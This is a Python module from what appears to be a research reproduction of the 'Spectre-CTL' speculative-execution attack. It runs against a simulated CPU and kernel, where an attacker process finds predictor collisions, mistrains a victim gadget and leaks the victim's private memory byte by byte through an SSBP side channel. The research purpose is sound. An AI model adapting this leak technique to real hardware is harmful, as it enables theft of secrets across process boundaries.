"""The Spectre-CTL attack (paper Section V-C).

Spectre-CTL leaks memory *across process boundaries* using only SSBP —
no cache covert channel, no shared secret-dependent cache lines, no
multiplied-by-4096 gadget index:

1. **Collision search** — the attacker (its own process!) slides its stld
   until it collides with the victim gadget's first and third loads.
   SSBP survives context switches (Vulnerability 1), which is what makes
   the cross-process observation possible at all.
2. **Mistraining** — before each victim run the attacker drains the first
   load's C3 so SSBP predicts non-aliasing, and keeps the third load's
   C4 saturated so a single covert G event charges C3 to 15.
3. **Leak** — the attacker plants the secret's address in the victim's
   input buffer (``array2``, shared), evicts the victim's ``idx`` line to
   delay the store, and runs the victim with ``idx == idx2``.  The first
   load transiently reads the *stale* planted pointer, the second fetches
   the secret, and the third load races the still-pending store: it
   aliases (a G event, charging the attacker-observable C3) exactly when
   ``secret == idx``.  256 guesses per byte, probed through the SSBP
   side channel.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.attacks.collision import CollisionResult, SsbpCollisionFinder
from repro.attacks.leak_report import TimedSecretLeak
from repro.attacks.victim_gadgets import flush_line_program, spectre_ctl_gadget
from repro.attacks.runtime import AttackerStld
from repro.core.exec_types import TimingClass
from repro.cpu.machine import Machine
from repro.osm.domains import SecurityDomain
from repro.osm.process import Process

__all__ = ["SpectreCTL", "CtlLeakReport"]

#: array1 offset whose byte the attacker knows (victim input echo);
#: used to steer the third load during its collision search.
_KNOWN_OFF = 0x180
_KNOWN_BYTE = 0xA7


@dataclass
class CtlLeakReport(TimedSecretLeak):
    """Outcome of a Spectre-CTL leak campaign."""

    load1_collision: CollisionResult | None = None
    load3_collision: CollisionResult | None = None
    missed_bytes: list[int] = field(default_factory=list)


class SpectreCTL:
    """Cross-process Spectre-CTL with the SSBP covert channel."""

    def __init__(
        self,
        machine: Machine | None = None,
        victim_domain: SecurityDomain = SecurityDomain.USER,
        slide_pages: int = 16,
    ) -> None:
        self.machine = machine or Machine(seed=2077)
        kernel = self.machine.kernel
        self.victim: Process = kernel.create_process("victim", victim_domain)
        self.attacker_process: Process = kernel.create_process("attacker")
        # Victim-private memory: array1 and the secret live behind the
        # process boundary.  array2 is the victim's *input buffer*,
        # shared with the attacker (mmap), holding the planted pointer
        # and the idx variable the attacker can flush.
        self.array1 = kernel.map_anonymous(self.victim, pages=2)
        self.secret_va = kernel.map_anonymous(self.victim, pages=4)
        self.array2 = kernel.map_anonymous(self.victim, pages=1)
        self.idx_slot = self.array2 + 0x800
        kernel.write(self.victim, self.array1 + _KNOWN_OFF, bytes([_KNOWN_BYTE]))
        self.attacker_array2 = kernel.map_shared(
            self.attacker_process, self.victim, self.array2, pages=1
        )
        self.gadget = self.machine.load_program(self.victim, spectre_ctl_gadget())
        self.attacker = self._create_attacker(slide_pages)
        self._flush_idx_program = self.machine.load_program(
            self.attacker_process, flush_line_program(self.attacker_array2 + 0x800)
        )
        self.load1_collision: CollisionResult | None = None
        self.load3_collision: CollisionResult | None = None
        #: Extra confirmations demanded of a covert hit (the browser
        #: variant verifies because its coarse timer can false-positive).
        self.verify_hits = 0
        #: Victim runs per charging choreography; noisy primitives
        #: (probabilistic eviction) need more to guarantee three G events.
        self.charge_runs = 4
        #: Consecutive sticky observations demanded during sliding.
        self.collision_verify_runs = 2

    def _create_attacker(self, slide_pages: int) -> AttackerStld:
        """Hook for variants that constrain the attacker's primitives."""
        return AttackerStld(
            self.machine, self.attacker_process, slide_pages=slide_pages
        )

    # ------------------------------------------------------------------
    # Attacker-side shared-memory helpers
    # ------------------------------------------------------------------
    def _plant(self, offset: int, value: int) -> None:
        self.machine.kernel.write(
            self.attacker_process,
            self.attacker_array2 + offset,
            value.to_bytes(8, "little"),
        )

    def _set_idx(self, idx: int) -> None:
        self.machine.kernel.write(
            self.attacker_process,
            self.attacker_array2 + 0x800,
            idx.to_bytes(8, "little"),
        )

    def _flush_idx(self) -> None:
        self.machine.run(self.attacker_process, self._flush_idx_program)

    def run_victim(self, idx2_off: int) -> None:
        """Invoke the victim function (schedules the victim's process —
        which flushes PSFP, as every context switch does)."""
        self.machine.run(
            self.victim,
            self.gadget,
            {
                "idx_ptr": self.idx_slot,
                "idx2_off": idx2_off,
                "array1": self.array1,
                "array2": self.array2,
            },
        )

    # ------------------------------------------------------------------
    # Collision-charging choreographies
    # ------------------------------------------------------------------
    def _charge_load1(self) -> None:
        """Aliasing victim runs (idx == idx2) G-train the first load.
        The planted pointer steers the third load AWAY from the store
        (plant -> known byte 0xA7, idx != 0xA7), so only load 1 charges."""
        idx = 0x10
        assert idx != _KNOWN_BYTE
        for _ in range(self.charge_runs):
            self._set_idx(idx)
            self._plant(idx, _KNOWN_OFF)
            self._flush_idx()
            self.run_victim(idx2_off=idx)

    def _charge_load3(self) -> None:
        """Runs with the planted pointer at the attacker-known byte and
        ``idx == that byte``: the third load aliases the pending store
        and G-trains.  Load 1 must *bypass* for the window to open, so
        its entry is drained before every run (and after, so the sliding
        scan does not trip over it)."""
        idx = _KNOWN_BYTE
        for _ in range(self.charge_runs):
            if self.load1_collision is not None:
                self.attacker.drain_c3(self.load1_collision.program)
            self._set_idx(idx)
            self._plant(idx, _KNOWN_OFF)
            self._flush_idx()
            self.run_victim(idx2_off=idx)
        if self.load1_collision is not None:
            self.attacker.drain_c3(self.load1_collision.program)

    # ------------------------------------------------------------------
    # Phase 1: find both collisions
    # ------------------------------------------------------------------
    def find_collisions(self) -> tuple[CollisionResult, CollisionResult]:
        finder1 = SsbpCollisionFinder(
            self.attacker, self._charge_load1, verify_runs=self.collision_verify_runs
        )
        self.load1_collision = finder1.find()
        self.attacker.drain_c3(self.load1_collision.program)

        finder3 = SsbpCollisionFinder(
            self.attacker, self._charge_load3, verify_runs=self.collision_verify_runs
        )
        offset = 0
        while True:
            candidate = finder3.find(start_offset=offset)
            offset = candidate.iva - self.attacker.slide_base + 1
            if not self._is_load1_entry(candidate):
                break
        self.load3_collision = candidate
        self.attacker.drain_c3(candidate.program)
        return self.load1_collision, self.load3_collision

    def _is_load1_entry(self, candidate: CollisionResult) -> bool:
        """Disambiguate: drain the candidate, recharge ONLY load 1, and
        see whether the candidate observes the charge."""
        self.attacker.drain_c3(candidate.program)
        self._charge_load1()
        sticky = (
            self.attacker.observe(candidate.program, aliasing=False)
            is TimingClass.STALL_CACHE
        )
        self.attacker.drain_c3(candidate.program)
        return sticky

    # ------------------------------------------------------------------
    # Phase 2+3: leak
    # ------------------------------------------------------------------
    def _trial(self, idx: int, planted: int) -> bool:
        """One guess: mistrain, plant, open the window, run, probe."""
        assert self.load1_collision is not None
        self.attacker.drain_c3(self.load1_collision.program)
        self._set_idx(idx)
        self._plant(idx, planted)
        self._flush_idx()
        self.run_victim(idx2_off=idx)
        assert self.load3_collision is not None
        return bool(self.attacker.read_bit(self.load3_collision.program))

    def _leak_byte(self, victim_va: int) -> int | None:
        assert self.load3_collision is not None
        planted = (victim_va - self.array1) & ((1 << 64) - 1)
        # Leftover stickiness on the covert entry would read as a false
        # hit at idx = 0; clear it first.
        self.attacker.drain_c3(self.load3_collision.program)
        # Two passes: a cold secret line can close the first window of a
        # byte early (the nested loads outrun the store's resolution);
        # the failed attempt itself warms the line for the second pass.
        for _ in range(2):
            for idx in range(256):
                if not self._trial(idx, planted):
                    continue
                confirmations = sum(
                    self._trial(idx, planted) for _ in range(self.verify_hits)
                )
                if confirmations == self.verify_hits:
                    return idx
        return None

    def leak(self, secret: bytes) -> CtlLeakReport:
        """Plant ``secret`` in *victim-private* memory and leak it."""
        kernel = self.machine.kernel
        kernel.write(self.victim, self.secret_va, secret)
        if self.load1_collision is None or self.load3_collision is None:
            self.find_collisions()
        # One warming run so the secret's first line is cached (the first
        # transient window otherwise closes before the nested loads).
        self._set_idx(1)
        self._plant(1, (self.secret_va - self.array1) & ((1 << 64) - 1))
        self._flush_idx()
        self.run_victim(idx2_off=1)
        start_cycles = self.machine.core.thread(0).cycles
        recovered = bytearray()
        missed = []
        for index in range(len(secret)):
            byte = self._leak_byte(self.secret_va + index)
            if byte is None:
                missed.append(index)
                byte = 0
            recovered.append(byte)
        cycles = self.machine.core.thread(0).cycles - start_cycles
        return CtlLeakReport(
            recovered=bytes(recovered),
            expected=secret,
            cycles=cycles,
            clock_ghz=self.machine.core.model.clock_ghz,
            load1_collision=self.load1_collision,
            load3_collision=self.load3_collision,
            missed_bytes=missed,
        )
